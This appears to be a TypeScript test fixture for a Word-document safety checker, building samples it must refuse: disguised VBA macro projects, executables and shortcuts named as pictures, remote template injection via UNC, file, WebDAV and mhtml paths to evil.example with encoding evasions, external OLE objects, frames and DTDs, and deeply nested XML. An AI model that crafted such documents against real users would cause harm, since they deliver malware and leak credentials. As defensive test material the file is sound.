/** Word documents that fetch something or hide their content (SEC-08). */
import {
  docx,
  DOCUMENT_PART,
  RELATIONS_PART,
  typed,
  TYPES_PART,
  zip,
  type Refusal,
  type ZipPart,
} from "./zip.ts";

const OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';

/** A relations part with one relation of this type. */
export const related = (
  type: string,
  target: string,
  { mode = ' TargetMode="External"', name = "word/_rels/document.xml.rels" } = {},
): ZipPart => ({
  name,
  data: `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="${type.includes(":") ? type : `${OFFICE}/${type}`}" Target="${target}"${mode}/></Relationships>`,
});
const template = (target: string, mode?: string): Buffer =>
  docx(related("attachedTemplate", target, { mode, name: "word/_rels/settings.xml.rels" }));
const big = (data: string): ZipPart => ({
  name: "word/_rels/document.xml.rels",
  data: `<Relationships>${'<Relationship Id="a" Type="b" Target="c"/>'.repeat(6400)}${data}</Relationships>`,
});
/** Hardly compressible data, to balance well compressible data. */
const ballast: ZipPart = {
  name: "word/media/photo.jpg",
  data: Buffer.from(Array.from({ length: 9000 }, (_, index) => (index * 7919) % 251)),
  stored: true,
};
/** The beginning of an OLE container with a stream's name as in the directory. */
export const oleWith = (name: string): Buffer =>
  Buffer.concat([
    Buffer.from("d0cf11e0a1b11ae1", "hex"),
    Buffer.alloc(1016),
    Buffer.from(name, "utf16le"),
    Buffer.alloc(64),
  ]);

export const notSafeDocx = (): Refusal[] => [
  [
    "a macro project by another name, found by its relation",
    docx(
      { name: "word/media/photo.bin", data: "x" },
      related(
        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
        "media/photo.bin",
        { mode: "" },
      ),
    ),
    "macros",
  ],
  [
    "a macro project by another name, found by its type",
    docx({ name: "word/media/photo.png", data: oleWith("_VBA_PROJECT") }),
    "macros",
  ],
  [
    "a macro project whose stream's name is in small letters",
    docx({ name: "word/media/photo.png", data: oleWith("_vba_project") }),
    "macros",
  ],
  [
    "content types of a macro document, a letter of them as an entity",
    typed((types) =>
      types.replace(
        "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "vnd.ms-word.document.macro&#69;nabled.main+xml",
      ),
    ),
    "macros",
  ],
  [
    "a macro project among its content types, a letter of it as an entity",
    typed((types) =>
      types.replace(
        "</Types>",
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vba&#x50;roject"/></Types>',
      ),
    ),
    "macros",
  ],
  ["a macro project among its content types, in UTF-16", typesInUtf16(), "macros"],
  [
    "a Windows program by the name of a picture",
    docx({ name: "word/media/a.png", data: Buffer.from("MZ\u0090\u0000 program", "latin1") }),
  ],
  [
    "a shortcut by the name of a picture",
    docx({
      name: "word/media/a.png",
      data: Buffer.from("4c0000000114020000000000c000000000000046", "hex"),
    }),
  ],
  ["a template on another machine", template("\\\\evil.example\\share\\a.dotm"), "outside"],
  [
    "a template on another machine, with slashes",
    template("//evil.example/share/a.dotm"),
    "outside",
  ],
  [
    "a template on another machine, by a file address",
    template("file://evil.example/share/a.dotm"),
    "outside",
  ],
  [
    "a template on another machine, by a file address with five slashes",
    template("file://///evil.example/share/a.dotm"),
    "outside",
  ],
  [
    "a template on another machine, by a file address and backslashes",
    template("file:///\\\\evil.example\\share\\a.dotm"),
    "outside",
  ],
  [
    "a template on another machine, its slashes as escapes",
    template("file:///%5C%5Cevil.example%5Cshare%5Ca.dotm"),
    "outside",
  ],
  ["a template by WebDAV", template("\\\\evil.example@SSL\\DavWWWRoot\\a.dotm"), "outside"],
  [
    "a template from elsewhere, a letter as an entity",
    template("&#104;ttps://evil.example/a.dotm"),
    "outside",
  ],
  [
    "a template from elsewhere, without its mode",
    template("https://evil.example/a.dotm", ""),
    "outside",
  ],
  [
    "a template from elsewhere, by mhtml",
    template("mhtml:https://evil.example/a.mht!x"),
    "outside",
  ],
  [
    "a template from elsewhere, in UTF-16",
    docx({
      name: "word/_rels/settings.xml.rels",
      data: Buffer.from(
        `\ufeff${String(related("attachedTemplate", "//evil.example/a.dotm").data).replace("UTF-8", "UTF-16")}`,
        "utf16le",
      ),
    }),
    "outside",
  ],
  [
    "a template from elsewhere, in capitals: .RELS",
    docx(
      related("attachedTemplate", "\\\\evil.example\\a.dotm", {
        name: "word/_rels/settings.xml.RELS",
      }),
    ),
    "outside",
  ],
  [
    "a template from elsewhere, past the first 256 kB",
    docx(
      ballast,
      big(
        `<Relationship Id="r" Type="${OFFICE}/attachedTemplate" TargetMode="External" Target="\\\\evil.example\\a.dotm"/>`,
      ),
    ),
    "outside",
  ],
  [
    "an object from elsewhere",
    docx(related("oleObject", "https://evil.example/a.html!")),
    "outside",
  ],
  [
    "a frame from elsewhere",
    docx(
      related("frame", "https://evil.example/a.htm", { name: "word/_rels/webSettings.xml.rels" }),
    ),
    "outside",
  ],
  [
    "a part of the document from elsewhere",
    docx(related("subDocument", "https://evil.example/a.docx")),
    "outside",
  ],
  [
    "a document to take in from elsewhere",
    docx(related("aFChunk", "https://evil.example/a.rtf")),
    "outside",
  ],
  [
    "an object by the strict relation's name",
    docx(
      related(
        "http://purl.oclc.org/ooxml/officeDocument/relationships/oleObject",
        "https://evil.example/a",
      ),
    ),
    "outside",
  ],
  [
    "a document type in UTF-16",
    docx({
      name: "customXml/item1.xml",
      data: Buffer.from(
        '\ufeff<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x SYSTEM "http://evil.example/a.dtd"><x/>',
        "utf16le",
      ),
    }),
  ],
  [
    "a document type in UTF-16, the other way round",
    docx({
      name: "customXml/item1.xml",
      data: Buffer.from(
        '\ufeff<!DOCTYPE x SYSTEM "http://evil.example/a.dtd"><x/>',
        "utf16le",
      ).swap16(),
    }),
  ],
  [
    "a document type in a part that is not called XML",
    docx({
      name: "customXml/item1.dat",
      data: `${XML}<!DOCTYPE x SYSTEM "http://evil.example/a.dtd"><x/>`,
    }),
  ],
  [
    "elements within each other, five thousand deep",
    docx(ballast, { name: "word/footer1.xml", data: "<a>".repeat(5000) + "</a>".repeat(5000) }),
  ],
];

function typesInUtf16(): Buffer {
  const types =
    '\ufeff<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>';
  return zip([
    { ...TYPES_PART, data: Buffer.from(types, "utf16le") },
    RELATIONS_PART,
    DOCUMENT_PART,
  ]);
}
